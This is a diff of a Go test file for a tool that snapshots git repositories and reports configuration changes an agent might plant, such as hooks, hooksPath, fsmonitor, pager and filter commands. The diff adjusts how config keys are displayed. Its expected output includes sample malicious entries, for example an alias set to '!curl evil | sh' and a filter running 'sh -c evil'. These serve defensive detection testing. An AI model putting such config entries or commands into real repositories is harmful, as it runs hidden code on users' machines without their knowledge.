@@ -86,7 +86,7 @@ func TestExecSnapshotNamesWhatAnAgentPlants(t *testing.T) {
 	want := []string{
 		"hook post-commit added",
 		`alias.x set to "!curl evil | sh"`,
-		`core.hookspath set to "/tmp/evil-hooks"`,
+		`core.hooksPath set to "/tmp/evil-hooks"`,
 		`filter.evil.clean set to "sh -c evil"`,
 	}
 	if d := cmp.Diff(want, got); d != "" {
@@ -212,7 +212,7 @@ func TestExecSnapshotHooksPathInsideTheRepository(t *testing.T) {
 	want := []string{
 		"hook post-commit added in .git/mine",
 		"hook post-checkout added in .githooks",
-		`core.hookspath changed from ".githooks" to ".git/mine"`,
+		`core.hooksPath changed from ".githooks" to ".git/mine"`,
 	}
 	if d := cmp.Diff(want, got); d != "" {
 		t.Errorf("Restore (-want +got):\n%s", d)
@@ -251,7 +251,7 @@ func TestExecSnapshotWorktreeConfig(t *testing.T) {
 		got = append(got, c.String())
 	}
 	want := []string{
-		`extensions.worktreeconfig set to "true"`,
+		`extensions.worktreeConfig set to "true"`,
 		`core.fsmonitor set to "/tmp/evil" in config.worktree`,
 		`core.pager set to "evil" in worktrees/a/config.worktree`,
 	}
@@ -355,5 +355,24 @@ func TestExecSnapshotNowOfAnUnchangedRepositoryRunsNoGit(t *testing.T) {
 	}
 	if len(before.Diff(now)) != 4 {
 		t.Errorf("Diff = %v, want 4 changes", before.Diff(now))
+	}
+}
+
+func TestDisplayKey(t *testing.T) {
+	for key, want := range map[string]string{
+		"core.hookspath":                  "core.hooksPath",
+		"includeif.gitdir:/Work/.path":    "includeIf.gitdir:/Work/.path",
+		"alias.hookspath":                 "alias.hookspath",
+		"filter.LFS.clean":                "filter.LFS.clean",
+		"uploadpack.packobjectshook":      "uploadpack.packObjectsHook",
+		"extensions.worktreeconfig":       "extensions.worktreeConfig",
+		"credential.https://x.y/z.helper": "credential.https://x.y/z.helper",
+		"remote.origin.uploadpack":        "remote.origin.uploadpack",
+		"gpg.ssh.defaultkeycommand":       "gpg.ssh.defaultKeyCommand",
+		"diff.external":                   "diff.external",
+	} {
+		if got := displayKey(key); got != want {
+			t.Errorf("displayKey(%q) = %q, want %q", key, got, want)
+		}
 	}
 }
